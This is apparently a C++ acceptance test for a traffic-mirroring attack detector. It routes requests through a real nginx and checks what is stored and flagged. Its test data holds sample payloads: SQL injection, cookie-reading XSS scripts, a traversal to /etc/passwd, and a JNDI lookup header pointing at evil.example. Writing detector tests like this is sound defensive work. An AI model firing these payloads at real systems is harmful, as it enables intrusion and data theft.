// SPDX-License-Identifier: Apache-2.0
// The whole path with a real nginx: what `snippet nginx` printed, requests through nginx to an origin, and
// what is stored.
#include <QTemporaryDir>
#include <QTest>
#include <algorithm>
#include <map>
#include <optional>
#include <set>
#include <string>

#include "core/storage/session_reader.h"
#include "tests/support/collector.h"
#include "tests/support/nginx.h"
#include "tests/support/origin_server.h"
#include "tests/support/socket.h"

using namespace mirrorscope;

namespace {

std::string get(const std::string& target, const std::string& more = {}) {
    return "GET " + target + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: acceptance/1.0\r\n" + more +
           "Connection: close\r\n\r\n";
}

std::string post(const std::string& target, const std::string& type, const std::string& body) {
    return "POST " + target +
           " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: acceptance/1.0\r\nContent-Type: " + type +
           "\r\nContent-Length: " + std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" + body;
}

/// 300 KB in chunks of 10,000 bytes.
std::string chunkedPost(const std::string& target) {
    std::string bytes = "POST " + target +
                        " HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/octet-stream\r\n"
                        "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
    for (int i = 0; i < 30; ++i) {
        bytes += "2710\r\n" + std::string(10'000, static_cast<char>('a' + i % 26)) + "\r\n";
    }
    return bytes + "0\r\n\r\n";
}

std::string chunkedBody() {
    std::string body;
    for (int i = 0; i < 30; ++i) {
        body += std::string(10'000, static_cast<char>('a' + i % 26));
    }
    return body;
}

struct Sent {
    std::string bytes;
    std::string body;
    std::optional<mirrorscope::traffic::AttackType> type;  // the attack that must be found
};

/// By path of the target, which nginx hands on as it is.
const std::map<std::string, Sent>& sentRequests() {
    using enum mirrorscope::traffic::AttackType;
    static const std::string form = "name=anna&comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E";
    static const std::string json = R"({"user":"anna","bio":"<script>alert(document.cookie)</script>"})";
    static const std::map<std::string, Sent> requests{
        {"/plain", {get("/plain?page=2"), "", {}}},
        {"/form",
         {post("/form", "application/x-www-form-urlencoded", "name=anna&city=Ulm"),
          "name=anna&city=Ulm",
          {}}},
        {"/upload", {chunkedPost("/upload"), chunkedBody(), {}}},
        {"/sql", {get("/sql?id=1%27%20OR%201=1--%20-"), "", Sqli}},
        {"/xss-form", {post("/xss-form", "application/x-www-form-urlencoded", form), form, Xss}},
        {"/xss-json", {post("/xss-json", "application/json", json), json, Xss}},
        {"/file", {get("/file?name=../../../../etc/passwd"), "", Traversal}},
        {"/log", {get("/log", "X-Api-Version: ${${lower:j}ndi:ldap://evil.example/a}\r\n"), "", Java}},
    };
    return requests;
}

std::string pathOf(const std::string& target) {
    return target.substr(0, target.find('?'));
}

}  // namespace

class NginxMirrorTest : public QObject {
    Q_OBJECT

private slots:
    void everythingArrives_data();
    void everythingArrives();

private:
    /// Sends everything through a real nginx that is configured with the printed snippet, and waits for the
    /// verdicts.
    void sendThroughNginx(const test::Collector& collector, const QString& directory);
    QByteArray snippet(const test::Collector& collector, const char* part,
                       const test::OriginServer& origin) const;
    void checkRow(storage::SessionReader& reader, const mirrorscope::traffic::RequestRow& row) const;

    QString m_variant;
    bool m_trusted = false;
    QString m_session;
    std::uint16_t m_port = 0;
};

void NginxMirrorTest::everythingArrives_data() {
    QTest::addColumn<QString>("variant");
    QTest::addColumn<bool>("trusted");
    QTest::newRow("faithful, trusted") << "faithful" << true;
    QTest::newRow("faithful, not trusted") << "faithful" << false;
    QTest::newRow("hardened, trusted") << "hardened" << true;
    QTest::newRow("hardened, not trusted") << "hardened" << false;
}

void NginxMirrorTest::everythingArrives() {
    QFETCH(QString, variant);
    QFETCH(bool, trusted);
    m_variant = variant;
    m_trusted = trusted;
    QTemporaryDir directory;
    m_session = directory.filePath("a.mscope");
    test::Collector collector(m_session, trusted ? QStringList{"--trust", "127.0.0.1/32"} : QStringList{});
    QVERIFY2(collector.isListening(), collector.error().constData());
    sendThroughNginx(collector, directory.filePath("nginx"));
    if (QTest::currentTestFailed()) {
        return;
    }
    auto reader = storage::SessionReader::open(m_session.toStdString());
    const auto rows = (*reader)->requests({});
    QVERIFY(rows.has_value());
    QCOMPARE(rows->size(), sentRequests().size());
    std::set<std::string> seen;
    for (const auto& row : *rows) {
        seen.insert(pathOf(row.target));
        checkRow(**reader, row);
    }
    QCOMPARE(seen.size(), sentRequests().size());

    const test::Output ended = collector.stop();
    QCOMPARE(ended.exitCode, 0);
    const auto summary = test::jsonLines(ended.out).back();
    QCOMPARE(summary.at("received").to_number<std::size_t>(), sentRequests().size());
    QCOMPARE(summary.at("stored").to_number<std::size_t>(), sentRequests().size());
    QCOMPARE(summary.at("refused").to_number<int>() + summary.at("in_flight").to_number<int>(), 0);
}

QByteArray NginxMirrorTest::snippet(const test::Collector& collector, const char* part,
                                    const test::OriginServer& origin) const {
    const auto printed = test::runCli(
        {"snippet", "nginx", "--listener", QStringLiteral("127.0.0.1:%1").arg(collector.port()), "--variant",
         m_variant, "--part", part, "--origin", QStringLiteral("http://127.0.0.1:%1").arg(origin.port())});
    return printed.exitCode == 0 ? printed.out : "printing failed: " + printed.error;
}

void NginxMirrorTest::sendThroughNginx(const test::Collector& collector, const QString& directory) {
    const test::OriginServer origin;
    m_port = test::freePort();
    const QString configuration = test::writeNginxConfig(
        directory, {snippet(collector, "http", origin), snippet(collector, "server", origin), m_port});
    QCOMPARE(test::nginxComplaint(directory, configuration), QByteArray());
    test::Nginx nginx(directory, configuration, m_port);
    QVERIFY2(nginx.isRunning(), nginx.error().constData());
    for (const auto& [path, sent] : sentRequests()) {
        const auto response = test::exchange(m_port, sent.bytes);
        QVERIFY2(response && response->status == 200, path.c_str());
    }
    QCOMPARE(origin.requestLines().size(), sentRequests().size());
    auto reader = storage::SessionReader::open(m_session.toStdString());
    QVERIFY(reader.has_value());
    const auto wanted = static_cast<mirrorscope::traffic::RequestId>(sentRequests().size());
    QVERIFY(test::becomesTrue([&] {
        const auto progress = (*reader)->progress();
        return progress && progress->verdictCursor >= wanted;
    }));
}

void NginxMirrorTest::checkRow(storage::SessionReader& reader,
                               const mirrorscope::traffic::RequestRow& row) const {
    using mirrorscope::traffic::ClientTrust;
    const std::string path = pathOf(row.target);
    QVERIFY2(sentRequests().contains(path), path.c_str());
    const Sent& sent = sentRequests().at(path);
    const auto detail = reader.detail(row.id);
    QVERIFY(detail.has_value());
    QCOMPARE(detail->request.body, sent.body);
    QCOMPARE(row.bodyBytes, sent.body.size());
    QCOMPARE(row.context.kind, mirrorscope::traffic::SourceKind::Nginx);
    QCOMPARE(row.context.client, std::string("127.0.0.1"));
    QCOMPARE(row.context.clientTrust, m_trusted ? ClientTrust::Verified : ClientTrust::Claimed);
    QCOMPARE(row.context.host, std::string("shop.example"));
    QCOMPARE(row.context.serverAddress, std::string("127.0.0.1"));
    QCOMPARE(row.context.serverPort, std::optional<std::uint16_t>(m_port));
    const bool isAttack = row.state == mirrorscope::traffic::RequestState::Attack;
    QVERIFY2(isAttack == sent.type.has_value(), path.c_str());
    const bool found = !sent.type || std::ranges::find(row.attackTypes, *sent.type) != row.attackTypes.end();
    QVERIFY2(found, path.c_str());
}

QTEST_GUILESS_MAIN(NginxMirrorTest)
#include "nginx_mirror_test.moc"
